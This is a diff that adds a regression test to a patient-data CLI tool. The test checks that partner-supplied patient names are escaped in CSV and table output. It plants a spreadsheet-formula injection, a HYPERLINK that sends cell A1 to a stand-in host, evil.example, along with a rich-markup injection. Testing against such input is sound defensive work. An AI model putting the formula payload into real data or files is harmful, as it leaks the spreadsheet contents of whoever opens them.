@@ -196,6 +196,23 @@ async def test_exposure_as_csv_lists_each_patient_without_names(readings, cli, w
     assert "first_name" not in rows[0] and "Prénom" not in result.output and "Nom" not in result.output
 
 
+async def test_names_a_partner_wrote_are_shown_as_written_never_run(api, world, sync_engine, cli):
+    """Patients' names are the text of partners' bookings: a formula ran in the spreadsheet the CSV
+    opened in, and rich markup (`[/]`) failed the table (an outside review)."""
+    hostile = {"first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "last_name": "[/] [link=http://x]y"}
+    with Session(sync_engine) as session, session.begin():
+        session.execute(update(Patient).values(**hostile))
+    since = utcnow() - timedelta(seconds=1)
+    await read(api, world.keys["full"], PAGE, p=world.practice_id("A"), **window_args(), n=2)
+    flags = ["exposure", "--partner", "full", "--since", since.isoformat(), "--with-names"]
+    as_csv = cli(*flags, "--format", "csv")
+    assert as_csv.exit_code == 0, as_csv.output
+    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
+    assert rows and {r["first_name"] for r in rows} == {"'" + hostile["first_name"]}
+    as_table = cli(*flags)
+    assert as_table.exit_code == 0 and "[/] [link=http://x]y" in as_table.output, as_table.output
+
+
 async def test_exposure_with_names_adds_them_for_notification(readings, cli, world):
     since, _ = readings
     result = cli(
